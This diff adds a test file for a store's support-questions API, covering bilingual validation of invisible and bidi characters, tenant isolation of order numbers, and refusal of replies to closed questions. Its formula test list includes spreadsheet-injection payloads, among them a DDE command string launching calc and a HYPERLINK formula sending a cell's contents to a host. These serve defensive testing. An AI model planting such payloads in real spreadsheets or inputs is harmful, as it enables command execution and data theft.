@@ -1,0 +1,102 @@
+import { beforeEach, expect, test } from 'vitest'
+import { expectProblem, read, sending } from './ask.ts'
+import { namesOf } from './calls.ts'
+import { type Fetch, openTestHost, scenario, type TestHost } from './test-host.ts'
+
+const { inLine, inProcess } = scenario.told
+const ASKED = `/api/stores/${inLine}/questions`
+let subject: TestHost
+let owner: Fetch
+let support: Fetch
+
+beforeEach(() => {
+  subject = openTestHost()
+  owner = subject.as('store-owner')
+  support = subject.as('support')
+})
+
+interface Question {
+  readonly id: string
+  readonly messages: readonly { readonly text: string }[]
+}
+
+const asking = (text: string, headers = {}) =>
+  sending('POST', { topic: 'other', orderId: null, text }, headers)
+const ask = (text: string) => read<Question>(owner, ASKED, asking(text))
+const doing = (id: string, deed: object) =>
+  support(`/api/support/questions/${id}/deeds`, sending('POST', deed))
+
+const CAUSES: [string, string, string, string][] = [
+  ['nothing', ' \n\t', 'Nothing is written here.', 'Rien n’est écrit ici.'],
+  [
+    '4,001 characters',
+    'x'.repeat(4_001),
+    'At most 4000 characters are taken.',
+    'Au plus 4000 caractères sont acceptés.',
+  ],
+  [
+    'what turns the direction of text',
+    'a \u202E b',
+    'It holds marks that cannot be seen: control characters, or marks without width or of direction. Take them out.',
+    'Ce texte contient des marques invisibles\u00A0: caractères de commande, marques sans largeur ou de direction. Retirez-les.',
+  ],
+  [
+    'what has no width',
+    'a\u200Bb',
+    'It holds marks that cannot be seen: control characters, or marks without width or of direction. Take them out.',
+    'Ce texte contient des marques invisibles\u00A0: caractères de commande, marques sans largeur ou de direction. Retirez-les.',
+  ],
+]
+
+test.each(CAUSES)('%s: the field is named with its cause, in both languages', async (_, text, en, fr) => {
+  const causeIn = async (language: string) => {
+    const response = await owner(ASKED, asking(text, { 'accept-language': language }))
+    expect(response.status).toBe(422)
+    return ((await response.json()) as { errors: unknown }).errors
+  }
+  expect(await causeIn('en')).toEqual([{ field: 'body.text', cause: en }])
+  expect(await causeIn('fr')).toEqual([{ field: 'body.text', cause: fr }])
+})
+
+test.each([
+  '=HYPERLINK("https://shop.example/?"&A1,"Open")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '=cmd|’/C calc’!A0',
+])('a formula is a text like any other: %s', async (text) => {
+  const { id, messages } = await ask(text)
+  expect(messages.map((each) => each.text)).toEqual([text])
+  const shown = await read<Question>(support, `/api/support/questions/${id}`)
+  expect(shown.messages.map((each) => each.text)).toEqual([text])
+})
+
+test('a number of another store’s order in the words of a question is answered as one that does not exist', async () => {
+  const other =
+    scenario.orders.find(({ order }) => order.id === namesOf(inProcess).orderId)?.order.number ?? ''
+  expect(other).toMatch(/^SO\d{9}$/)
+  const told = async (number: string) => {
+    const { id, messages } = await ask(`Is ${number} ahead of mine?`)
+    const of = await owner(ASKED)
+    const own = JSON.stringify(
+      ((await of.json()) as { questions: Question[] }).questions.find((each) => each.id === id),
+    )
+    const ids = [id, ...messages.map((each) => (each as { id?: string }).id ?? '')]
+    return ids.reduce((text, each, index) => text.replaceAll(each, `id ${index}`), own).replace(number, 'SO…')
+  }
+  expect(await told(other)).toBe(await told('SO000000001'))
+  // Nor may a store look it up.
+  const looked = await Promise.all([other, 'SO000000001'].map((each) => owner(`/api/support/orders/${each}`)))
+  expect(looked.map(({ status }) => status)).toEqual([403, 403])
+})
+
+test('a reply to what its store has closed meanwhile is refused, and nothing of it is kept', async () => {
+  const { id } = await ask('When?')
+  await doing(id, { kind: 'claim' })
+  expect((await owner(`${ASKED}/${id}`, { method: 'DELETE' })).status).toBe(204)
+  const before = await subject.added()
+  await expectProblem(await doing(id, { kind: 'reply', text: 'On Friday.' }), 409, 'conflict')
+  await expectProblem(await doing(id, { kind: 'ask_back', text: 'Which order?' }), 409, 'conflict')
+  expect(await subject.added()).toEqual(before)
+})
